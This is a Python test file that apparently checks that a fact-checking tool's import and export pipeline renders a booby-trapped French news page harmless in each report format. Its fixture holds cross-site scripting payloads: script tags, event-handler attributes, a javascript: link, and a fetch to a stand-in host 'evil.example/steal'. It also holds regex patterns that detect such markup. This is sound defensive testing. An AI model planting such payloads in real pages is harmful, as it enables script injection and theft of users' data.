"""A hostile web page, imported then quoted in a claim, comes out inert in every report format."""

from __future__ import annotations

import io
import json
import re

from tests.cli.helpers import run

PAGE = """<!DOCTYPE html><html lang="fr"><head><title>Page piégée</title>
<script>document.title = "pwned"; fetch("https://evil.example/steal")</script>
<style>body{background:url(https://evil.example/bg.png)}</style></head>
<body onload="evil()"><nav><a href="/">Accueil</a></nav><article><h1>Page piégée</h1>
<p>Le maire a publié &lt;script&gt;alert(1)&lt;/script&gt; sur son compte, puis il a retiré le message.</p>
<p>Un lien <a href="javascript:alert(2)" onclick="steal()">à ne pas suivre</a> et une image
<img src="x" onerror="alert(3)"> figuraient aussi dans la page, selon notre correspondant à Lyon.</p>
<iframe src="https://evil.example/frame"></iframe>
<p>La préfecture affirme que le message a été supprimé au bout de deux heures, ce que confirme la mairie.</p>
</article></body></html>"""




def test_hostile_page_is_inert_everywhere(tmp_path, capsys):
    page = tmp_path / "piege.html"
    page.write_text(PAGE, encoding="utf-8")
    db = str(tmp_path / "h.sqlite")
    run(capsys, "--db", db, "import", str(page))
    text = run(capsys, "--db", db, "text", "1")
    assert "<script>alert(1)</script>" in text  # what the page SAYS is kept, as text
    for gone in ("pwned", "evil.example", "steal()", "onerror", "javascript:", "Accueil"):
        assert gone not in text
    cid = run(capsys, "--db", db, "claim", "add", "1", "--quote", "<script>alert(1)</script>",
              "--statement", "Le maire a publié <b onmouseover=alert(4)>un script</b>", "--status", "concluded",
              "--verdict", "true", "--rationale", "<img src=x onerror=alert(5)>",
              "--claimant", "<i>Le maire</i>").strip()
    for key, value in (("organisation", "<b>Org</b>"), ("organisation-url", "https://org.example/"),
                       ("publication-url", "https://org.example/fc/{claim}")):
        run(capsys, "--db", db, "setting", key, value)
    run(capsys, "--db", db, "claim", "cite", cid, "--stance", "context", "--url", "https://example.org/a?x=<script>",
        "--title", "<script>alert(6)</script>")
    for fmt in ("html", "md", "csv", "json", "claimreview", "annotations", "docx", "pdf"):
        out = tmp_path / f"r.{fmt}"
        run(capsys, "--db", db, "export", "--format", fmt, "--out", str(out), "--history")
        data = out.read_bytes()
        if fmt == "html":
            html = data.decode()
            assert not re.search(r"<script", html, re.I)
            assert not re.search(r"<[^>]+\son\w+\s*=", html, re.I)
            assert "javascript:" not in html.lower()
            assert "evil.example" not in html
            assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
        elif fmt == "md":
            md = data.decode()
            # every "<" from a source or a user is backslash-escaped: Markdown renders it as a literal "<"
            assert not re.search(r"(?<!\\)<(script|img|b\s)", md)
        elif fmt in ("json", "claimreview", "annotations"):
            json.loads(data)  # valid JSON; strings stay strings
            assert b"<script" not in data  # JSON escapes < as \u003c so it can be embedded in HTML
        elif fmt == "docx":
            import docx

            body = "\n".join(p.text for p in docx.Document(io.BytesIO(data)).paragraphs)
            assert "<script>alert(1)</script>" in body  # shown as text in Word, nothing to run
        elif fmt == "pdf":
            assert data.startswith(b"%PDF") and b"/JavaScript" not in data and b"/JS" not in data
